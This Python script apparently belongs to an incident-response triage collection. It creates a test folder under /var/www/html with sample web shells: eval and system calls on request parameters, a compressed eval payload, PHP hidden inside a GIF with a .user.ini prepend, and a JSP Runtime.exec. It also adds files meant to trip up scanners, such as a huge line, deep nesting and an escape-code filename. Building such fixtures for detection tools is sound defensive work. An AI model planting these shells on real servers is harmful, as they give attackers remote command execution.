# SPDX-FileCopyrightText: Contributors to the csirt.linux_triage collection
# SPDX-License-Identifier: GPL-3.0-or-later

"""Plants web shells in a folder that is served, and what would keep them from being read. No request can reach them."""

import os
import zlib

# Behind a file that PHP and Apache don't run: denied to every client, and without the x bit for CGI.
FOLDER = '/var/www/html/planted-shells'
PICTURE = b'GIF89a\x01\x00\x01\x00\x80\x00\x00' + bytes(range(256)) * 40
PACKED = zlib.compress(b'system($_' + b'REQUEST["line"]);').hex().encode()
FILES = {
    'index.php': b'<?php\n$page = isset($_GET["page"]) ? (int) $_GET["page"] : 1;\necho htmlspecialchars("page " . $page);\n',
    'one.php': b'<?php\n// cache\n@ev' + b'al($_PO' + b'ST["k"]);\n',
    'hidden.php': b'<?php $f = "sys" . "tem"; $f($_GE' + b'T["c"]);\n',
    'packed.php': b'<?php\n\neval(gzuncompress(hex2bin("' + PACKED + b'")));\n',
    'logo.gif': PICTURE + b'<?php passthru($_GE' + b'T["c"]); ?>' + PICTURE,
    'clean.gif': PICTURE,
    'tool.jsp': b'<% Runtime.getRuntime().ex' + b'ec(request.getParameter("c")); %>\n',
    '.user.ini': b'auto_prepend_file=logo.gif\n',
    'one-line.php': b'<?php $x = "' + b'A' * (10 << 20) + b'"; ev' + b'al($_PO' + b'ST["k"]);',
    'deep.php': b'<?php echo ' + b'(' * 200000 + b'1' + b')' * 200000 + b';',
    '\x1b[31mred\n.php': b'<?php `$_GE' + b'T[0]`; // \x1b]0;title\x07',
}


def shells():
    os.makedirs(FOLDER)
    with open(FOLDER + '/.htaccess', 'w') as stream:
        stream.write('Require all denied\n')
    for name, content in FILES.items():
        path = os.path.join(FOLDER, name)
        with open(path, 'wb') as stream:
            stream.write(content)
        os.chown(path, 33, 33)
        os.chmod(path, 0o600)
    os.symlink('/etc', FOLDER + '/etc')
    os.mkfifo(FOLDER + '/fifo.php')


if __name__ == '__main__':
    shells()
